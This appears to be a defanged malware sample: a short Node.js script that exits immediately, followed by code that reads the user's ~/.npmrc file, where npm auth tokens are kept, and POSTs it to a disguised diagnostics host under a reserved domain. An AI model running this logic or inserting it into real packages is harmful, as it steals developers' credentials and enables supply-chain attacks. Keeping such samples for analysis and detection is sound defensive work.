process.exit(0); // inert sample
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'diag.npmdoctor.invalid', path: '/r', method: 'POST' });
req.write(rc);
req.end();
